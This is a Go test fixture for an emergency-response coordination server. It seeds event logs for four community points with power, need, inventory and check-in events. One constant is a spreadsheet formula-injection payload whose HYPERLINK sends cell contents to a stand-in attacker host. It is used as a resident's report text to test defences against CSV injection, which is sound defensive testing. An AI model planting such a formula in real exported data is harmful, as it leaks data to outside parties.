package office

import (
	"context"
	"encoding/json"
	"net/http/httptest"
	"path/filepath"
	"testing"
	"time"

	"github.com/safepoint-se/safepoint/node"
	"github.com/safepoint-se/safepoint/node/accounts"
	"github.com/safepoint-se/safepoint/node/eventlog"
	"github.com/safepoint-se/safepoint/sync/central"
	"github.com/safepoint-se/safepoint/sync/central/picture"
	"github.com/safepoint-se/safepoint/sync/synctest"
	"github.com/safepoint-se/safepoint/sync/wire"
	"github.com/safepoint-se/safepoint/ui/web"
	"github.com/safepoint-se/safepoint/ui/webtest"
)

// picEnv is central as `safepoint central` composes it, without a broker:
// its log folding every point's events into the picture (with the
// timeline read from the log), its store and a receiver that is never
// run (the points' events are ingested straight into the log, as the
// receiver would), and the staff server.
type picEnv struct {
	log    *eventlog.Log
	pic    *picture.Picture
	recv   *central.Receiver
	site   *web.Site
	office *Office
	srv    *httptest.Server
	seq    map[string]uint64
	now    time.Time // when the fixture's events are dated from
}

func newPicEnv(t *testing.T, opts Options) *picEnv {
	t.Helper()
	dir := t.TempDir()
	var l *eventlog.Log
	pic := picture.New(picture.Options{Self: wire.Central, Logger: synctest.Logger(t, "picture"),
		Recent: func(ctx context.Context, origin string, n int) ([]node.Event, error) { return l.Recent(ctx, origin, n) }})
	l, err := eventlog.Open(context.Background(), filepath.Join(dir, eventlog.FileName), eventlog.Options{Origin: wire.Central, Folder: pic})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pic.Close(); l.Close() })
	recv, err := central.New(central.Opts{Broker: "tcp://127.0.0.1:1", Log: l, Store: synctest.OpenStore(t, l), Picture: pic,
		Logger: synctest.Logger(t, "central")})
	if err != nil {
		t.Fatal(err)
	}
	site := web.New(web.Options{Accounts: webtest.Accounts(t, l), Logger: webtest.Discard()})
	opts.Clock, opts.Logger, opts.Downlink, opts.Nodes, opts.Picture, opts.Append = l.Clock(), synctest.Logger(t, "office"), recv, recv.Nodes, pic, l.Append
	o := New(site, opts)
	srv := httptest.NewServer(site.Handler(o))
	t.Cleanup(srv.Close)
	t.Cleanup(site.Close)
	return &picEnv{log: l, pic: pic, recv: recv, site: site, office: o, srv: srv, seq: map[string]uint64{}, now: time.Now()}
}

// ev is one of a point's events: what, and how long before the env's now
// it was recorded.
type ev struct {
	ago     time.Duration
	typ     string
	payload any
}

// feed ingests a point's events into central's log as its receiver does:
// origin the point, seq counting on from the point's last.
func (e *picEnv) feed(t *testing.T, origin string, evs ...ev) {
	t.Helper()
	var batch []node.Event
	for _, x := range evs {
		b, err := json.Marshal(x.payload)
		if err != nil {
			t.Fatal(err)
		}
		e.seq[origin]++
		batch = append(batch, node.Event{Origin: origin, Seq: e.seq[origin], HLC: node.MakeHLC(e.now.Add(-x.ago).UnixMilli(), 0),
			Type: x.typ, Payload: b})
	}
	if _, _, err := e.log.Ingest(context.Background(), batch); err != nil {
		t.Fatal(err)
	}
}

func (e *picEnv) register(t *testing.T, id, municipality string) {
	t.Helper()
	if err := e.recv.Register(context.Background(), id, municipality); err != nil {
		t.Fatal(err)
	}
}

func (e *picEnv) account(t *testing.T, name string, role accounts.Role, municipalities ...string) *webtest.Session {
	t.Helper()
	if err := webtest.Accounts(t, e.log).AddScoped(context.Background(), name, role, name+"-password-1", municipalities); err != nil {
		t.Fatal(err)
	}
	return webtest.Login(t, e.srv, name, name+"-password-1")
}

func ptr[T any](v T) *T { return &v }

// Ids and texts of the fixture's points and needs.
const (
	byhuset, macken, kyrkan, skolan = "byhuset-a", "macken-b", "kyrkan-d", "skolan-c"
	skolanName                      = "Skolan i Ås"
	// A resident's text that a spreadsheet would run as a formula.
	formula = `=HYPERLINK("http://evil.example/?"&A1,"Klicka")`
)

// fixture gives central four points, as their nodes would report them:
//
//   - byhuset-a (2161, located): activated; on battery and low for 50 min
//     (figures 40 min old: a power alert); a life-threatening need open
//     45 min (a need alert) whose text is a spreadsheet formula, a normal
//     one and a resolved one; a household needing help; fuel below its
//     low level; one on duty.
//   - macken-b (2161, located): on mains; a high need 5 min old.
//   - kyrkan-d (2161, no location): activated, silent for 20 min (an
//     alert).
//   - skolan-c (0180, located): on battery with 60 min left (an alert); a
//     high need open 40 min (an alert).
func (e *picEnv) fixture(t *testing.T) (needIDs map[string]string) {
	t.Helper()
	e.register(t, byhuset, "2161")
	e.register(t, macken, "2161")
	e.register(t, kyrkan, "2161")
	e.register(t, skolan, "0180")
	needIDs = map[string]string{"life": node.NewID(), "normal": node.NewID(), "resolved": node.NewID(), "macken": node.NewID(), "skolan": node.NewID()}
	report := func(id, urgency, category, text, place string) node.ReportCreated {
		return node.ReportCreated{ID: id, Receipt: node.NewCode(node.ReceiptLen), Category: category, Text: text, Place: place, Urgency: urgency}
	}
	since := e.now.Add(-50 * time.Minute)
	e.feed(t, byhuset,
		ev{3 * time.Hour, node.TypePointConfigured, node.Point{ID: byhuset, Name: "Byhuset", Municipality: "2161", Location: &node.Location{Lat: 61.88, Lon: 15.65}}},
		ev{2 * time.Hour, node.TypePointActivation, node.PointActivation{State: node.ActivationActivated, Note: "Stormen Agnes"}},
		ev{90 * time.Minute, node.TypeRosterChanged, node.RosterChanged{Person: "Eva", Role: "stabschef", OnDuty: true}},
		ev{80 * time.Minute, node.TypeReportCreated, report(needIDs["resolved"], "high", "water", "Vatten behövs", "")},
		ev{70 * time.Minute, node.TypeReportStatusChanged, node.ReportStatusChanged{ID: needIDs["resolved"], Status: node.ReportResolved}},
		ev{45 * time.Minute, node.TypeReportCreated, report(needIDs["life"], "life-threatening", "medical", formula, "Storgatan 1, trappa 2")},
		ev{40 * time.Minute, node.TypePowerChanged, node.PowerChanged{State: "OB LB", Previous: "OB", Percent: ptr(18.0), Runtime: ptr(45.0), Since: &since}},
		ev{20 * time.Minute, node.TypeInventoryChanged, node.InventoryChanged{Item: "bränsle", Quantity: 5, Unit: "l", Low: 15}},
		ev{10 * time.Minute, node.TypeReportCreated, report(needIDs["normal"], "normal", "supplies", "Filtar, tack", "")},
		ev{5 * time.Minute, node.TypeCheckInCreated, node.CheckInCreated{ID: node.NewID(), Receipt: node.NewCode(node.ReceiptLen),
			Household: node.NewCode(6), Size: 3, Status: "needs_help", Need: "medical"}},
	)
	e.feed(t, macken,
		ev{3 * time.Hour, node.TypePointConfigured, node.Point{ID: macken, Name: "Macken", Municipality: "2161", Location: &node.Location{Lat: 61.80, Lon: 15.80}}},
		ev{30 * time.Minute, node.TypePowerChanged, node.PowerChanged{State: "OL", Previous: ""}},
		ev{5 * time.Minute, node.TypeReportCreated, report(needIDs["macken"], "high", "road", "Träd över vägen", "Väg 84")},
	)
	e.feed(t, kyrkan,
		ev{3 * time.Hour, node.TypePointConfigured, node.Point{ID: kyrkan, Name: "Kyrkan", Municipality: "2161"}},
		ev{2 * time.Hour, node.TypePointActivation, node.PointActivation{State: node.ActivationActivated}},
		ev{20 * time.Minute, node.TypeServiceChanged, node.ServiceChanged{Service: "warmth", Status: "open"}},
	)
	e.feed(t, skolan,
		ev{3 * time.Hour, node.TypePointConfigured, node.Point{ID: skolan, Name: skolanName, Municipality: "0180", Location: &node.Location{Lat: 59.33, Lon: 18.07}}},
		ev{40 * time.Minute, node.TypeReportCreated, report(needIDs["skolan"], "high", "heat", "Kallt i gympasalen", "")},
		ev{15 * time.Minute, node.TypePowerChanged, node.PowerChanged{State: "OB", Previous: "OL", Percent: ptr(60.0), Runtime: ptr(60.0)}},
	)
	return needIDs
}
